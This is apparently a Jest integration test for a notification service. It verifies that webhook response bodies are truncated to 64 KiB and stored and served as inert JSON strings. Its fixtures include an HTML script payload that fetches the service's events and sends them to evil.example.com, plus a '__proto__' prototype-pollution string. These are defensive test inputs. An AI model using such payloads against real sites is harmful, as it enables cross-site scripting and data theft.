import type { Client } from 'pg';
import request from 'supertest';
import type { EventRecord } from '../../apps/notification-service/src/events/event-record';
import { RecordingSink } from './support/recording-sink';
import {
  ALPHA, allEvents, createOrder, eventually, EVENTS, hook, InProcessService, setState, startTrustStack, TrustStack,
} from './support/services';

jest.setTimeout(60_000);

const CAP = 64 * 1024;
const SCRIPT = '<html><body><script>fetch("/api/v0/checkout/notifications/events").then(r => r.text()).then(t => new Image().src = "https://evil.example.com/?" + t)</script></body></html>';
const JSON_TEXT = '{"ok":true,"__proto__":{"polluted":true},"nested":{"a":[1,2,3]}}';

/**
 * What a target answers is kept as data: at most 64 KiB of it, as a JSON string in the Event,
 * never parsed, rendered or executed, whatever bytes or content type it came with; and no answer
 * can stop the results of other deliveries from being recorded.
 */
describe('response bodies from targets are capped and served as data', () => {
  let stack: TrustStack;
  let sql: Client;
  let sink: RecordingSink;
  let orders: InProcessService;
  let notifications: InProcessService;

  beforeAll(async () => {
    sink = await RecordingSink.start((r) => {
      switch (r.path) {
        case '/huge': return { status: 200, headers: { 'content-type': 'text/plain' }, body: 'x'.repeat(1024 * 1024) };
        case '/multibyte': return { status: 500, headers: { 'content-type': 'text/plain; charset=utf-8' }, body: '€'.repeat(30_000) };
        case '/script': return { status: 200, headers: { 'content-type': 'text/html' }, body: SCRIPT };
        case '/json': return { status: 400, headers: { 'content-type': 'application/json' }, body: JSON_TEXT };
        case '/binary': return { status: 200, headers: { 'content-type': 'application/octet-stream' }, body: Buffer.from([0x00, 0xff, 0xfe, 0x41, 0x00, 0x42, 0xc3]) };
        default: return { status: 200, body: 'ok' };
      }
    });
    stack = await startTrustStack({ RETRY_SCHEDULE: '50ms', RESULT_FLUSH_MS: '50' });
    ({ sql, orders, notifications } = stack);
  });

  afterAll(async () => {
    await stack?.close();
    await sink?.close();
  });

  it('keeps 64 KiB of each answer as a string, whatever it contains, and still records every other result', async () => {
    const paths = ['/huge', '/multibyte', '/script', '/json', '/binary', '/plain'];
    const order = await createOrder(orders.http, { notifications: paths.map((path) => hook(sink.url(path), { state: ['processing'] }, { reference: path })) });
    await setState(orders.http, order.id, 'processing');

    let events: EventRecord[] = [];
    await eventually(async () => {
      events = await allEvents(notifications.http, ALPHA, { orderId: order.id });
      return paths.every((path) => events.some((e) => e.reference === path && e.status !== 'pending' && (e.status === 'succeeded' || e.status === 'dead')));
    }, 20_000, () => JSON.stringify(events.map((e) => [e.reference, e.status, e.error])));
    const first = (path: string) => events.filter((e) => e.reference === path).sort((a, b) => a.attempt - b.attempt)[0];

    const huge = first('/huge');
    expect(huge).toMatchObject({ status: 'succeeded', statusCode: 200, responseTruncated: true });
    expect(huge.responseBody).toBe('x'.repeat(CAP));

    const multibyte = first('/multibyte');
    expect(multibyte).toMatchObject({ status: 'failed', statusCode: 500, responseTruncated: true });
    expect(Buffer.byteLength(multibyte.responseBody!)).toBeLessThanOrEqual(CAP + 3);
    expect(multibyte.responseBody!.startsWith('€'.repeat(21_000))).toBe(true);

    // Served as a JSON string, never as markup: the API answers JSON and says so firmly.
    const script = await request(notifications.http).get(`${EVENTS}/${first('/script').id}`).set(ALPHA).expect(200);
    expect(script.headers['content-type']).toMatch(/^application\/json/);
    expect(script.headers['x-content-type-options']).toBe('nosniff');
    expect(typeof script.body.responseBody).toBe('string');
    expect(script.body.responseBody).toBe(SCRIPT);
    expect(script.text).toContain(JSON.stringify(SCRIPT));

    // A JSON answer is not parsed into the record either.
    const json = first('/json');
    expect(json).toMatchObject({ statusCode: 400, responseBody: JSON_TEXT });

    // NUL bytes (which PostgreSQL text cannot hold) and invalid UTF-8 do not break recording.
    const binary = first('/binary');
    expect(binary).toMatchObject({ status: 'succeeded', statusCode: 200 });
    expect(binary.responseBody).toContain('A');
    expect(binary.responseBody).toContain('B');
    expect(first('/plain')).toMatchObject({ status: 'succeeded', responseBody: 'ok' });

    const [{ longest }] = (await sql.query<{ longest: number }>('SELECT max(octet_length(response_body))::int AS longest FROM notifications.events')).rows;
    expect(longest).toBeLessThanOrEqual(CAP + 3);
  });
});
